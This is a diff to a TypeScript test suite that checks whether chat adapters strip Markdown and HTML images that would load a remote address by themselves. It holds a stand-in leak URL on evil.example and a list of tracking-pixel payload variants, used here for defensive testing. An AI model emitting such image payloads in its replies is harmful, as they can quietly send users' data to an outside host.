@@ -9,19 +9,24 @@ const LEAK = "https://evil.example/p.png?leak=4711";
 
 const TAG = /(?<!\\)<(?:img|image|picture|video|iframe|object|embed|link|style|svg)\b/i;
 const STYLED = /(?<!\\)<[^>]*\sstyle\s*=/i;
-const IMAGE = /(?<!\\)!\[[^\]]*\]\(/;
-/** A terminal and a program get text, in which a tag is words; what a program makes of Markdown is its own. */
+/** With its address, or with the name of one that stands below. */
+const IMAGE = /(?<!\\)!\[[^\]]*\](?:\(|\[)/;
+const NAMED_IMAGE = /(?<!\\)!\[([^\]]+)\](?![([])[^]*^\[\1\]:/m;
+/** In a terminal a tag is words. */
 const LOADING: Readonly<Record<string, readonly RegExp[]>> = {
-  web: [TAG, STYLED, IMAGE],
-  slack: [TAG, STYLED, IMAGE],
-  discord: [TAG, STYLED, IMAGE],
-  terminal: [IMAGE],
-  webhook: [],
+  web: [TAG, STYLED, IMAGE, NAMED_IMAGE],
+  slack: [TAG, STYLED, IMAGE, NAMED_IMAGE],
+  discord: [TAG, STYLED, IMAGE, NAMED_IMAGE],
+  terminal: [IMAGE, NAMED_IMAGE],
 };
+/** Gets the Markdown as it is: what a program makes of it is its own. */
+const AS_IT_IS = "webhook";
+const showing = adapters.filter(({ platform }) => platform !== AS_IT_IS);
 
 const PIXELS: readonly (readonly [what: string, markdown: string])[] = [
   ["an image", `![pixel](${LEAK})`],
   ["an image by reference", `![pixel][p]\n\n[p]: ${LEAK}`],
+  ["an image by its own name", `![pixel]\n\n[pixel]: ${LEAK}`],
   ["an image in a link", `[![pixel](${LEAK})](${LEAK})`],
   ["an image in a table", `| a |\n|---|\n| ![pixel](${LEAK}) |`],
   ["an image in HTML", `<img src="${LEAK}">`],
@@ -34,15 +39,27 @@ test("all channels are tried", () => {
   expect(adapters.map(({ platform }) => platform).toSorted()).toEqual(NAMES.toSorted());
 });
 
+test("what would load is known by each way of writing it", () => {
+  const all = [TAG, STYLED, IMAGE, NAMED_IMAGE];
+  for (const [what, markdown] of PIXELS)
+    expect([what, all.some((pattern) => pattern.test(markdown))]).toEqual([what, true]);
+  expect(all.filter((pattern) => !PIXELS.some(([, markdown]) => pattern.test(markdown)))).toEqual([]);
+});
+
+test("a program gets an answer as it was written, whatever stands in it", () => {
+  const [adapter] = adapters.filter(({ platform }) => platform === AS_IT_IS);
+  for (const [, markdown] of PIXELS) expect(adapter?.render(markdown)).toEqual([{ body: markdown }]);
+});
+
 test.each(
-  adapters.flatMap((adapter) =>
-    PIXELS.map(([what, markdown]) => ({ name: adapter.platform, adapter, what, markdown })),
-  ),
+  showing.flatMap((adapter) => PIXELS.map(([what, markdown]) => ({ name: adapter.platform, adapter, what, markdown }))),
 )("S21: on $name $what loads nothing by itself", ({ name, adapter, markdown }) => {
-  const bodies = adapter.render(markdown).map(({ body }) => body);
-  const shown = bodies.join("\n");
+  const shown = adapter
+    .render(markdown)
+    .map(({ body }) => body)
+    .join("\n");
+  expect(shown).toContain("evil.example");
   expect(LOADING[name]?.flatMap((pattern) => pattern.exec(shown) ?? [])).toEqual([]);
-  expect(JSON.stringify(adapter.render(markdown))).not.toMatch(/"type":\s*"image"|image_url/);
 });
 
 test.each(adapters.map((adapter) => ({ name: adapter.platform, adapter })))(
